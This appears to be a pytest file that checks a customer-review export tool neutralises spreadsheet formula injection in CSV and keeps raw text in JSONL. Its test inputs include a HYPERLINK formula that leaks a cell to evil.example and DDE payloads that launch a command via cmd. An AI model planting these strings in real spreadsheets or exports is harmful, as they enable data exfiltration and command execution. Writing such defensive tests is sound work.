"""`transferdesk review export`: customer text a spreadsheet would run as a formula is
neutralised in CSV (OWASP: a leading single quote), and kept as captured in JSONL."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

from transferdesk.review.export import export_reviews
from transferdesk.review.store import Capture, Store

# Each starts with a character Excel, LibreOffice or Google Sheets reads as a formula (OWASP's
# list: = + - @ tab carriage-return), but the last, which stays as it is.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click for your refund")',
    "+1 555 0100 call me back",
    "-2 items missing from my order",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "where is my parcel? =1+1 inside is fine",
]
FORMULA_LABEL = "=cmd|' /C calc'!A0"  # a reviewer's new intent is exported as text too


def _reviewed_store(url: str) -> Store:
    store = Store(url)
    store.migrate()
    t0 = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    texts = [*HOSTILE, "-the unreviewed one, in the pool"]
    store.add(
        [
            Capture(
                f"req-{i}",
                t0 + timedelta(minutes=i),
                "registry/northwind/v3",
                text,
                [("track_order", 0.5), ("refund_status", 0.4)],
                False,
                "low_confidence",
                "human-agents",
            )
            for i, text in enumerate(texts)
        ]
    )
    ids = {m.text: m.id for m in store.pending(100)}
    for text in HOSTILE[:-1]:
        store.review(ids[text], "ana", "confirm", "track_order", False)
    store.review(ids[HOSTILE[-1]], "ana", "correct", FORMULA_LABEL, True)
    return store


def test_csv_exports_neutralise_formulas_and_jsonl_keeps_the_text_as_captured(
    store_url: str, tmp_path: Path
) -> None:
    store = _reviewed_store(store_url)
    done = export_reviews(store, tmp_path / "reviewed.csv", tmp_path / "pool.csv")
    assert done.labelled == len(HOSTILE) and done.pool == 1
    with open(tmp_path / "reviewed.csv", newline="", encoding="utf-8") as f:
        rows = {row["text"]: row["label"] for row in csv.DictReader(f)}
    expected = {"'" + text: "track_order" for text in HOSTILE[:-1]}
    expected[HOSTILE[-1]] = "'" + FORMULA_LABEL  # "=" inside a text is no formula
    assert rows == expected
    with open(tmp_path / "pool.csv", newline="", encoding="utf-8") as f:
        assert [row["text"] for row in csv.DictReader(f)] == ["'-the unreviewed one, in the pool"]

    done = export_reviews(store, tmp_path / "reviewed.jsonl", tmp_path / "pool.jsonl")
    lines = (tmp_path / "reviewed.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["text"]: json.loads(line)["label"] for line in lines} == {
        **{text: "track_order" for text in HOSTILE[:-1]},
        HOSTILE[-1]: FORMULA_LABEL,
    }
    pool = (tmp_path / "pool.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in pool] == [{"text": "-the unreviewed one, in the pool"}]
